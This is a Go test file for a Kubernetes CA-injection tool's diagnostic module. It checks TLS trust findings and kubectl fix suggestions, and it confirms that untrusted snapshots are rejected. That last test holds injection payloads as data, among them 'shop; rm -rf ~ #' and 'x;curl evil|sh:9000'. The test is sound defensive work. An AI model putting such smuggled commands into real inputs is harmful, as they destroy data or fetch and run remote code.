package doctor_test

import (
	"strings"
	"testing"
	"time"

	"github.com/s3-tls-injector/s3-tls-injector/pkg/ca"
	"github.com/s3-tls-injector/s3-tls-injector/pkg/doctor"
	"github.com/s3-tls-injector/s3-tls-injector/pkg/endpoint"
	"github.com/s3-tls-injector/s3-tls-injector/pkg/endpoint/endpointtest"
	"github.com/s3-tls-injector/s3-tls-injector/pkg/inject"
	"github.com/s3-tls-injector/s3-tls-injector/pkg/settings"
	"github.com/s3-tls-injector/s3-tls-injector/pkg/storageconfig"
)

var now = time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)

// snapshot is one of a Thanos store that was injected and uses an endpoint.
func snapshot(chain, trusted []byte, tweak func(*doctor.Snapshot, *doctor.Pod, *doctor.Storage)) *doctor.Snapshot {
	of := settings.CA{Kind: settings.Secret, Name: "s3-tls-cert", Key: "ca.crt"}
	storage := doctor.Storage{Storage: storageconfig.Storage{Path: "config", Endpoint: "minio.example.com:9000", Bucket: "b"}}
	pod := &doctor.Pod{
		Namespace: "shop", Name: "thanos-store-0", Workload: "StatefulSet/thanos-store", InjectedBy: "pod", CA: &of, CAKnown: true,
		Decision: doctor.Decision{Decision: inject.Skipped, Reason: inject.AlreadyInjected, Source: "pod", Clients: []string{"store"}},
		Clients: []doctor.Client{{
			Container: "store", File: "/etc/ssl/certs/s3-ca.crt", Trusts: []settings.CA{of},
			Configs: []doctor.Config{{Place: "Secret objstore[objstore.yml]", Complete: true, Storages: []doctor.Storage{storage}}},
		}},
	}
	s := &doctor.Snapshot{
		Version: doctor.SnapshotVersion, Taken: now, Pods: []*doctor.Pod{pod},
		CAs:    []*doctor.CA{{Namespace: "shop", CA: of, Certificates: string(trusted), Judgement: ca.Parse(trusted).Judge(of.Place(), now)}},
		Probes: []endpoint.Probe{{Address: "minio.example.com:9000", Name: "minio.example.com", From: "here", TLS: "TLS 1.3", Chain: string(chain)}},
		Gaps:   []doctor.Gap{{What: doctor.EntriesSubject, Why: "of no interest"}},
	}
	if tweak != nil {
		tweak(s, pod, &pod.Clients[0].Configs[0].Storages[0])
	}
	return s
}

// What an endpoint sends is held against what the client trusts: not what the machine that asks does.
func TestEndpoints(t *testing.T) {
	issue := endpointtest.Issue
	root, other := issue(t, "S3 root", nil, now, endpointtest.IsCA), issue(t, "Other", nil, now, endpointtest.IsCA)
	leaf := issue(t, "minio", root, now, endpointtest.IsServer)
	good, wrong := endpointtest.PEM(root), endpointtest.PEM(other)
	chain, alone := endpointtest.PEM(leaf, root), endpointtest.PEM(leaf)
	file := settings.CA{Kind: settings.Secret, Name: "file", Key: "ca.crt"}
	byFile := func(pem []byte) func(*doctor.Snapshot, *doctor.Pod, *doctor.Storage) {
		return func(s *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.CAFile, st.CAFilePath, st.CAFileMounted, st.CA = "/my/ca.crt", "http_config.tls_config.ca_file", true, &file
			s.CAs = append(s.CAs, &doctor.CA{Namespace: "shop", CA: file, Certificates: string(pem), Judgement: ca.Parse(pem).Judge("Secret file[ca.crt]", now)})
		}
	}
	for name, tt := range map[string]struct {
		snapshot *doctor.Snapshot
		want     string // codes
		text     string // in text or fix
	}{
		"trusted":           {snapshot(chain, good, nil), "", ""},
		"trusted, alone":    {snapshot(alone, good, nil), "", ""},
		"wrong CA":          {snapshot(chain, wrong, nil), "endpoint-unknown-authority", "kubectl s3-tls fetch-ca minio.example.com:9000 --secret s3-tls-cert -n shop | kubectl apply -f -"},
		"wrong CA, alone":   {snapshot(alone, wrong, nil), "endpoint-unknown-authority", "kubectl -n shop create secret generic s3-tls-cert --from-file=ca.crt=s3-ca.crt --dry-run=client -o yaml | kubectl apply -f -"},
		"one CA of several": {snapshot(chain, append(wrong[:len(wrong):len(wrong)], endpointtest.PEM(issue(t, "Third", nil, now, endpointtest.IsCA))...), nil), "endpoint-unknown-authority", `{ kubectl -n shop get secret s3-tls-cert -o jsonpath='{.data.ca\.crt}' | base64 -d; echo; kubectl s3-tls fetch-ca minio.example.com:9000; } | kubectl -n shop create secret generic s3-tls-cert --from-file=ca.crt=/dev/stdin`},
		"asked in the cluster": {snapshot(chain, wrong, func(s *doctor.Snapshot, _ *doctor.Pod, _ *doctor.Storage) {
			s.Probes[0].Namespace, s.Probes[0].From = "shop", "a pod in shop"
		}), "endpoint-unknown-authority", "--from-file=ca.crt=s3-ca.crt"},
		"a file that replaces it, wrong": {snapshot(chain, good, byFile(wrong)), "endpoint-unknown-authority config-ca-file", "Secret file[ca.crt] holds \"Other\""},
		"a file that replaces it, right": {snapshot(chain, wrong, byFile(good)), "config-ca-file", ""},
		"a file that is not known": {snapshot(chain, good, func(_ *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.CAFile, st.CAFilePath, st.CAFileMounted = "/my/ca.crt", "http_config.tls_config.ca_file", true
		}), "config-ca-file", ""},
		"a file where nothing is": {snapshot(chain, good, func(_ *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.CAFile, st.CAFilePath = "/etc/thanos/ca.crt", "http_config.tls_config.ca_file"
		}), "config-ca-file", "where nothing is mounted"},
		"another name": {snapshot(chain, good, func(s *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.Endpoint, st.ServerName = "10.0.0.1:9000", "minio.example.com"
			s.Probes[0].Address = "10.0.0.1:9000"
		}), "", ""},
		"another name, wrong CA": {snapshot(chain, wrong, func(s *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.Endpoint, st.ServerName = "10.0.0.1:9000", "minio.example.com"
			s.Probes[0].Address = "10.0.0.1:9000"
		}), "endpoint-unknown-authority", "fetch-ca 10.0.0.1:9000 --server-name minio.example.com --secret"},
		"variables that are not known": {snapshot(chain, good, func(s *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.ServerName, st.CAFile, st.CAFilePath, s.Probes = "$(NAME)", "$(FILE)", "x", nil
		}), "", ""},
		"the image's bundle": {snapshot(chain, good, func(_ *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.CAFile, st.CAFilePath = "/etc/ssl/certs/ca-certificates.crt", "http_config.tls_config.ca_file"
		}), "endpoint-unknown-authority config-ca-file", "takes the place of the injected"},
		"an expired certificate that matters to nobody": {snapshot(append(chain[:len(chain):len(chain)], endpointtest.PEM(issue(t, "Old", nil, now.AddDate(-9, 0, 0), endpointtest.IsCA))...), good, nil), "", ""},
		"client certificates": {snapshot(chain, good, func(s *doctor.Snapshot, _ *doctor.Pod, st *doctor.Storage) {
			st.ClientCertificate = true
			s.Probes[0].Failure, s.Probes[0].AsksClient = endpoint.Handshake, true
		}), "", ""},
		"a client certificate that is missing": {snapshot(chain, good, func(s *doctor.Snapshot, _ *doctor.Pod, _ *doctor.Storage) {
			s.Probes[0].Failure, s.Probes[0].AsksClient = endpoint.Handshake, true
		}), "endpoint-handshake", ""},
		"opted out": {snapshot(chain, good, func(_ *doctor.Snapshot, p *doctor.Pod, _ *doctor.Storage) {
			p.InjectedBy, p.CA, p.Clients[0].File, p.Clients[0].Trusts = "", nil, "", nil
			p.Decision.Reason = inject.OptedOut
		}), "endpoint-unknown-authority", "no CA is given to trust it by"},
		"not opted in": {snapshot(chain, good, func(_ *doctor.Snapshot, p *doctor.Pod, _ *doctor.Storage) {
			p.InjectedBy, p.CA, p.Clients[0].File, p.Clients[0].Trusts = "", nil, "", nil
			p.Decision.Reason, p.Decision.Source = inject.NotOptedIn, ""
		}), "endpoint-unknown-authority not-opted-in", "kubectl label namespace shop --overwrite s3-tls/inject=true"},
		"not opted in, wired by hand": {snapshot(chain, good, func(_ *doctor.Snapshot, p *doctor.Pod, _ *doctor.Storage) {
			p.InjectedBy, p.CA, p.Clients[0].File = "", nil, ""
			p.Decision.Reason, p.Decision.Source = inject.NotOptedIn, ""
		}), "", ""},
		"an image that may trust it": {snapshot(chain, wrong, func(_ *doctor.Snapshot, p *doctor.Pod, _ *doctor.Storage) {
			p.Clients[0].TrustsUnseen = true
		}), "", ""},
		"an endpoint that nobody uses": {snapshot(chain, good, func(s *doctor.Snapshot, _ *doctor.Pod, _ *doctor.Storage) { s.Pods = nil }), "endpoint-unknown-authority", "kubectl s3-tls fetch-ca minio.example.com:9000"},
		"rights that are missing": {snapshot(chain, good, func(s *doctor.Snapshot, p *doctor.Pod, _ *doctor.Storage) {
			p.InjectedBy, p.CA, p.Clients[0].File, p.Clients[0].TrustsUnseen = "", nil, "", true
			p.Decision.Reason, p.Decision.Source = inject.NotOptedIn, ""
			s.Gaps = append(s.Gaps, doctor.Gap{What: doctor.PoliciesSubject, Why: "you are not allowed to read it"})
		}), "not-checked", "you are not allowed to read it"},
	} {
		var codes, texts []string
		for _, f := range doctor.Examine(tt.snapshot) {
			if !strings.Contains(f.Text, "of no interest") {
				codes, texts = append(codes, string(f.Code)), append(texts, f.Text, f.Fix)
			}
		}
		if got := strings.Join(codes, " "); got != tt.want {
			t.Errorf("%s: %q, want %q: %q", name, got, tt.want, texts)
		}
		if text := strings.Join(texts, "\n"); !strings.Contains(text, tt.text) {
			t.Errorf("%s: %q, want %q", name, text, tt.text)
		}
	}
}

// A snapshot that somebody sends can neither end the tool nor put anything into a command.
func TestSnapshotsOfOthers(t *testing.T) {
	for name, spoil := range map[string]func(*doctor.Snapshot, *doctor.Pod){
		"no pod":     func(s *doctor.Snapshot, _ *doctor.Pod) { s.Pods = append(s.Pods, nil) },
		"no CA":      func(s *doctor.Snapshot, _ *doctor.Pod) { s.CAs = append(s.CAs, nil) },
		"a command":  func(_ *doctor.Snapshot, p *doctor.Pod) { p.Namespace = "shop; rm -rf ~ #" },
		"a line":     func(_ *doctor.Snapshot, p *doctor.Pod) { p.Name = "store\n\x1b[2J" },
		"a flag":     func(s *doctor.Snapshot, _ *doctor.Pod) { s.Policies = []doctor.Policy{{Name: "--all"}} },
		"a place":    func(_ *doctor.Snapshot, p *doctor.Pod) { p.Clients[0].Configs[0].Place = "Secret a;b[c]" },
		"a failure":  func(s *doctor.Snapshot, _ *doctor.Pod) { s.Probes[0].Failure = "quic" },
		"an address": func(s *doctor.Snapshot, _ *doctor.Pod) { s.Probes[0].Address = "x;curl evil|sh:9000" },
		"a problem":  func(s *doctor.Snapshot, _ *doctor.Pod) { s.CAs[0].Judgement.Problems = []ca.Problem{{ID: "new"}} },
	} {
		s := snapshot(nil, nil, nil)
		s.Probes = append(s.Probes, endpoint.Probe{Address: "[::1]:9000", Name: "::1"})
		if err := s.Check(); err != nil {
			t.Fatal(err)
		}
		spoil(s, s.Pods[0])
		if err := s.Check(); err == nil {
			t.Errorf("%s: it is taken", name)
		}
	}
}
